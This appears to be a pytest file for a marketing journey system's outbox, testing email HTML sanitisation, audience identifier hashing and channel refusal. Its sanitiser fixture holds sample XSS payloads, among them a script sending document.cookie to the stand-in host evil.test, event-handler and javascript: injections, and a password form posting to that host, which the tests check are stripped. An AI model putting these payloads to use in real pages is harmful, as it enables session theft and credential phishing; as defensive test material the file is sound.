"""The production wiring: what the journey writes into the outbox for each channel."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import Engine

from agents.journey.context import JourneyContext
from agents.journey.wiring import build_context, channel_payload
from core.db import session_scope
from core.settings import Settings
from core.tables import Customer, OutboxMessage, Profile
from tools.channels.audiences import AudienceChannel, export_audience, hash_email, hash_phone
from tools.channels.base import Delivery

HOSTILE_HTML = (
    '<!doctype html><html lang="en"><head><title>x</title></head>'
    '<body style="font-family: Georgia, serif;">'
    '<p onclick="steal()" style="color:#1d2b24">Your boots are waiting.</p>'
    "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
    '<img src="https://shop.example.com/p.png" onerror="steal()">'
    '<a href="javascript:steal()">Claim</a> <a href="{{unsubscribe_url}}">Unsubscribe</a>'
    '<div style="background:url(https://evil.test/track.gif)">Kestrel Cycle Co.</div>'
    '<form action="https://evil.test/login"><input name="password"></form>'
    "</body></html>"
)


def _context(engine: Engine, tmp_path: Path) -> JourneyContext:
    settings = Settings(data_dir=tmp_path / "var", environment="test")
    return build_context(engine, settings, write_creative=lambda *a: None)


def _enqueue(ctx: JourneyContext, engine: Engine, channel: str, **planned: Any) -> OutboxMessage:
    with session_scope(engine) as session:
        row, created = ctx.enqueue(
            session,
            channel=channel,
            key=f"test:{channel}",
            payload={"offer": {}, "step": "s1", **planned},
            customer_id="c1",
            journey_slug="j1",
            run_id="r1",
            decision_id="d1",
            action_id="a1",
            not_before=None,
        )
        assert created
        session.expunge(row)
    return row


def test_email_html_is_sanitised_before_it_is_enqueued(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    ctx = _context(sqlite_engine, tmp_path)
    content = {"subject": "Your cart", "body_text": "Hi", "body_html": HOSTILE_HTML}
    row = _enqueue(ctx, sqlite_engine, "email", recipient="ada@example.org", content=content)
    html = row.payload["html"]
    for gone in ("<script", "onclick", "onerror", "javascript:", "evil.test", "<form", "<input"):
        assert gone not in html, gone
    # what a designer wrote survives: styles, images, links, the unsubscribe placeholder
    assert 'style="color:#1d2b24"' in html
    assert '<body style="font-family: Georgia, serif;">' in html
    assert 'src="https://shop.example.com/p.png"' in html
    assert 'href="{{unsubscribe_url}}"' in html
    assert "Your boots are waiting." in html and "Kestrel Cycle Co." in html


def test_email_without_html_stays_text_only() -> None:
    payload = channel_payload(
        "email", "ada@example.org", {"subject": "s", "body_text": "t"}, {}, "c"
    )
    assert payload["html"] == ""


def test_audience_add_carries_the_profiles_identifiers_and_is_stored_hashed(
    sqlite_engine: Engine, tmp_path: Path
) -> None:
    with session_scope(sqlite_engine) as session:
        session.add(Customer(id="c1"))
        session.add(
            Profile(
                customer_id="c1",
                traits={"email": " Ada@Example.org", "phone": "+1 212 555 0142"},
                consent={"audience": {"status": "subscribed", "basis": "express"}},
            )
        )
    ctx = _context(sqlite_engine, tmp_path)
    row = _enqueue(
        ctx, sqlite_engine, "audience", recipient="c1", content={}, offer={"audience": "winback"}
    )
    assert row.payload["audience"] == "winback" and row.payload["op"] == "add"

    delivery = Delivery(
        message_id=row.id,
        key=row.idempotency_key,
        channel="audience",
        payload=row.payload,
        customer_id="c1",
    )
    AudienceChannel(sqlite_engine).send(delivery)  # raised "give an email or a phone" before
    with session_scope(sqlite_engine) as session:
        [member] = export_audience(session, "winback")
    assert member["email_sha256"] == hash_email("ada@example.org")
    assert member["phone_sha256"] == hash_phone("+12125550142")


@pytest.mark.parametrize("channel", ["web", "webhook"])
def test_channels_without_a_journey_payload_are_refused_by_name(channel: str) -> None:
    with pytest.raises(ValueError, match=f"channel '{channel}' has no journey outbox payload"):
        channel_payload(channel, None, {}, {}, "c1")
